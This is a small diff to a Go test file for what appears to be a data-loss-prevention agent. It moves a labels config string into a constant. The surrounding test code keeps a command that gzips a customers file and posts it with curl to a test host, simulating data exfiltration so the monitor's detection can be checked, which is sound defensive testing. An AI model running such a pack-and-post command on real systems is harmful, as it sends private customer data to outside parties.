@@ -37,6 +37,9 @@ const (
 	learnedHost = "203.0.113.10"
 )
 
+// customersLabel labels the file.
+const customersLabel = "labels:\n  - {label: customers, paths: [" + customers + "]}\n"
+
 // packAndPost has one process pack a file and another send it, both children of a shell.
 const packAndPost = `/usr/bin/gzip -c ` + customers + ` >/tmp/c.gz && sleep 1 && /usr/bin/curl -sS --data-binary @/tmp/c.gz http://%s/`
 
@@ -52,7 +55,7 @@ done`
 func startLeaker(t *testing.T) *leaker {
 	t.Helper()
 	r := startRig(t, rig.Config{AgentArgs: []string{
-		"--dlp-mode", "monitor", "--dlp-labels", writeFile(t, "labels:\n  - {label: customers, paths: ["+customers+"]}\n"),
+		"--dlp-mode", "monitor", "--dlp-labels", writeFile(t, customersLabel),
 	}})
 	image, err := lab.Python()
 	if err != nil {
